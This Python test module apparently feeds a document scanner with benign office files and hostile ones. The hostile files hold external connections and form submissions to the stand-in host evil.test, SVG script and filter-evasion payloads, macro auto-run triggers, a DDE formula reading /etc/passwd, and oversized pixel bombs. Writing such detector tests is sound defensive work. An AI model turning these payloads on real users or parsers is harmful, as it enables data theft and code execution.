"""Office documents that draw data, pictures or programs from elsewhere, and pictures in them that
do or that are too large."""

from functools import partial

from tests.hostile.archives import zipped
from tests.hostile.case import Case
from tests.hostile.images import png_of
from tests.hostile.office import excel, in_excel, in_word, odp, odt, pptx, remade, word

_VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
_SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def _book_with(part: str, xml: str) -> bytes:
    return remade(excel(), add={part: xml.encode()})


def _connected(inner: str) -> bytes:
    return _book_with(
        "xl/connections.xml", f"<connections><connection>{inner}</connection></connections>"
    )


def _drawn(xml: str) -> bytes:
    return in_word(f"<w:p><w:pict><v:shape {_VML}>{xml}</v:shape></w:pict></w:p>")


def _settings(xml: str) -> bytes:
    return remade(
        word(), change={"word/settings.xml": (b"</w:settings>", f"{xml}</w:settings>".encode())}
    )


def _vector(xml: str, before: str = "", encoding: str = "utf-8", attributes: str = "") -> bytes:
    whole = f"{before}<svg {_SVG} {attributes}>{xml}</svg>".encode(encoding)
    return remade(pptx(), add={"ppt/media/image8.svg": whole})


def _form_in(make: bytes, xml: str) -> bytes:
    return remade(make, change={"content.xml": (b"<office:text", f"{xml}<office:text".encode())})


def _flat(side: int) -> bytes:
    """A picture of zeros: a few kilobytes."""
    return png_of(side, side, data=b"\0" * 4096)


_CONNECTIONS = (
    ("a database", '<dbPr connection="Provider=SQLOLEDB;Data Source=evil.test" command="select"/>'),
    ("a query", '<dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Location=q"/>'),
    ("a page", '<webPr url="http://evil.test/"/>'),
    ("a text", '<textPr sourceFile="\\\\evil.test\\a.csv"/>'),
    ("a cube", '<olapPr local="1" localConnection="http://evil.test"/>'),
)
_VECTORS = (
    ("a link with a tab", '<a xlink:href="java&#9;script:alert(1)"/>', "script"),
    ("a link to a program", '<a xlink:href="file:///c:/a.exe"/>', "script"),
    ("an animated link", '<a><set attributeName="href" to="java&#10;script:alert(1)"/></a>', "script"),
    ("values of an animation", '<a><animate attributeName="xlink:href" values="x;JAVASCRIPT:1"/></a>', "script"),
    ("a style in pieces", "<style>@im<!-- -->port 'http://evil.test/a.css';</style>", "external-reference"),
    ("an escaped style", "<style>@\\69mport 'http://evil.test/a.css';</style>", "external-reference"),
    ("an escaped address", '<rect style="fill:u\\72l(http://evil.test/a)"/>', "external-reference"),
    ("a set of pictures", "<style>a{background:image-set('http://evil.test/a' 1x)}</style>", "external-reference"),
    ("a picture of HTML", '<img xmlns="http://www.w3.org/1999/xhtml" src="http://evil.test/a"/>', "external-reference"),
    ("a base", '<g xml:base="http://evil.test/"><use xlink:href="#a"/></g>', "external-reference"),
    ("a picture in a picture", '<image xlink:href="data:image/svg+xml,%3Csvg onload=alert(1)%3E"/>', "external-reference"),
)  # fmt: skip
_UTF16_SCRIPT = "<script>alert(1)</script>"

HONEST = [
    Case("a document with a drawn shape", "a.docx", lambda: _drawn('<v:imagedata r:id="rId9" o:title="a"/><v:fill color2="#fff"/>')),
    Case("a workbook with shapes without macros", "a.xlsx", lambda: _book_with("xl/drawings/drawing9.xml", '<xdr:wsDr xmlns:xdr="urn:x"><xdr:sp macro="" textlink=""/></xdr:wsDr>')),
    Case("a vector picture with colours and links", "a.pptx", lambda: _vector('<style>.a{fill:url(#g);font-family:"\\5FAE"}</style><a href="https://www.moe.gov.cn/"><path id="p"/></a><use href="#p"/>')),
    Case("a vector picture in UTF-16", "a.pptx", lambda: _vector("<path/>", '<?xml version="1.0" encoding="utf-16"?>', "utf-16")),
]  # fmt: skip

HOSTILE = [
    *(Case(f"a workbook connected to {what}", "a.xlsx", partial(_connected, inner), "external-reference") for what, inner in _CONNECTIONS),
    *(Case(f"a vector picture with {what}", "a.pptx", partial(_vector, inner), code) for what, inner, code in _VECTORS),
    Case("a vector picture styled from elsewhere", "a.pptx", lambda: _vector("", '<?xml-stylesheet href="http://evil.test/a.css"?>'), "external-reference"),
    Case("a vector picture with a script in UTF-16", "a.pptx", lambda: _vector(_UTF16_SCRIPT, '<?xml version="1.0" encoding="utf-16"?>', "utf-16"), "script"),
    Case("a vector picture with a script in UTF-7", "a.pptx", lambda: _vector("+ADw-script+AD4-1+ADw-/script+AD4-", '<?xml version="1.0" encoding="utf-7"?>'), "damaged"),
    Case("a workbook with a mashup", "a.xlsx", lambda: _book_with("customXml/item9.xml", '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'), "external-reference"),
    Case("a workbook with a pivot table of elsewhere", "a.xlsx", lambda: _book_with("xl/pivotCache/pivotCacheDefinition9.xml", '<pivotCacheDefinition><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>'), "external-reference"),
    Case("a button that runs a macro", "a.xlsx", lambda: _book_with("xl/drawings/drawing9.xml", '<xdr:wsDr xmlns:xdr="urn:x"><xdr:sp macro="[1]!run"/></xdr:wsDr>'), "macro"),
    Case("a control that runs a macro", "a.xlsx", lambda: _book_with("xl/drawings/vmlDrawing9.vml", '<xml xmlns:x="urn:schemas-microsoft-com:office:excel"><x:FmlaMacro>[1]!run</x:FmlaMacro></xml>'), "macro"),
    Case("a name that is a procedure", "a.xlsx", lambda: _book_with("xl/workbook9.xml", '<workbook><definedName name="Auto_Open" vbProcedure="1">run</definedName></workbook>'), "macro"),
    Case("a formula that asks a service", "a.xlsx", lambda: in_excel("DDE(&quot;soffice&quot;,&quot;file:///etc/passwd&quot;,&quot;A1&quot;)"), "action"),
    Case("an add-in that loads itself", "a.xlsx", lambda: _book_with("xl/webextensions/webextension1.xml", '<we:webextension xmlns:we="urn:we" id="x"><we:reference id="wa1" store="http://evil.test"/></we:webextension>'), "action"),
    Case("a ribbon that runs macros", "a.docx", lambda: remade(word(), add={"customUI/customUI.xml": b'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="run"/>'}), "macro"),
    Case("a letter merged from a database", "a.docx", lambda: _settings('<w:mailMerge><w:connectString w:val="Provider=SQLOLEDB;Data Source=evil.test"/></w:mailMerge>'), "external-reference"),
    Case("a smart document of elsewhere", "a.docx", lambda: _settings('<sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema sl:manifestLocation="http://evil.test/m.xml"/></sl:schemaLibrary>'), "external-reference"),
    Case("a drawn picture from elsewhere", "a.docx", lambda: _drawn('<v:imagedata src="http://evil.test/a.png"/>'), "external-reference"),
    Case("a drawn fill from a share", "a.docx", lambda: _drawn('<v:fill o:href="\\\\evil.test\\a.png" type="frame"/>'), "external-reference"),
    Case("a drawn link to a program", "a.docx", lambda: in_word(f'<w:p><w:pict><v:rect {_VML} href="file:///c:/a.exe"/></w:pict></w:p>'), "action"),
    Case("a form that sends itself, in OpenDocument", "a.odt", lambda: _form_in(odt(), '<xforms:submission xmlns:xforms="http://www.w3.org/2002/xforms" action="http://evil.test"/>'), "action"),
    Case("a form on a database, in OpenDocument", "a.odt", lambda: _form_in(odt(), '<form:form xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" form:datasource="//evil.test/a.odb"/>'), "external-reference"),
    Case("a presentation with a picture of 60000 squared", "a.pptx", lambda: remade(pptx(), add={"ppt/media/image8.png": _flat(60_000)}), "too-many-pixels"),
    Case("an OpenDocument with a picture of 60000 squared", "a.odp", lambda: remade(odp(), add={"Pictures/8.png": _flat(60_000)}), "too-many-pixels"),
    Case("a workbook connected within a ZIP", "a.zip", lambda: zipped({"a.xlsx": _connected(_CONNECTIONS[0][1])}), "external-reference"),
]  # fmt: skip
